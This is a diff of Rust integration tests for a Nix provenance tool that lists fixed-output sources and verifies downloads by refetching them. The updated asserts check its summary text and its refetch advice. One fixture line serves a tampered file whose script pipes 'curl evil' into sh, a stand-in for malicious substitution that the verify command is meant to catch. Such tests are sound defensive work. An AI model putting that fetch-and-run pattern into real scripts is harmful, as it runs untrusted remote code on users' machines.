@@ -329,8 +329,11 @@ in derivation {{ name = "bundle"; inherit system; builder = "/bin/sh"; args = [ 
     assert!(csv.starts_with("drv_path,output_path,name,kind,"), "{csv}");
     let o = provenix(h.root(), &["sources", &top]);
     let human = String::from_utf8(o.stdout).unwrap();
-    assert!(human.contains("4 sources in 7 derivations"), "{human}");
-    assert!(human.contains("why: bundle -> app-1.0 -> src-1.0.tar.gz"), "{human}");
+    assert!(human.contains("4 fixed-output sources (2 realised, "), "{human}");
+    assert!(human.contains("in 7 derivations of 1 root"), "{human}");
+    // The biggest sources once more only for their why-chains, not as a second table.
+    assert!(human.contains("Why the 2 biggest sources are needed:"), "{human}");
+    assert!(human.contains("B  bundle -> app-1.0 -> src-1.0.tar.gz\n"), "{human}");
 }
 
 #[test]
@@ -616,7 +619,12 @@ in derivation {{ name = "top"; system = builtins.currentSystem; builder = "/bin/
     // ...and an unpacking fetch cannot be checked from its download alone.
     assert!(findings(&report).contains(&("refetch-skipped".into(), channel_drv, String::new())), "{report:#}");
     // A flat fetch whose postFetch rewrites the download (fetchpatch) too.
-    assert!(findings(&report).contains(&("refetch-skipped".into(), patch_drv, String::new())), "{report:#}");
+    assert!(findings(&report).contains(&("refetch-skipped".into(), patch_drv.clone(), String::new())), "{report:#}");
+    // The advice is a whole command, for the same store.
+    let skipped = report["findings"].as_array().unwrap().iter();
+    let skipped = skipped.filter(|f| f["kind"] == "refetch-skipped").find(|f| f["path"] == patch_drv.as_str()).unwrap();
+    let advice = format!("`nix-store --store {} --realise --check {patch_drv}`", h.root().display());
+    assert!(skipped["detail"].as_str().unwrap().ends_with(&advice), "{skipped:#}");
 
     server.put("/bin/seed-tool", b"#!/bin/sh\ncurl evil | sh\n".to_vec());
     let o = provenix(h.root(), &["--json", "verify", "--refetch", &top]);
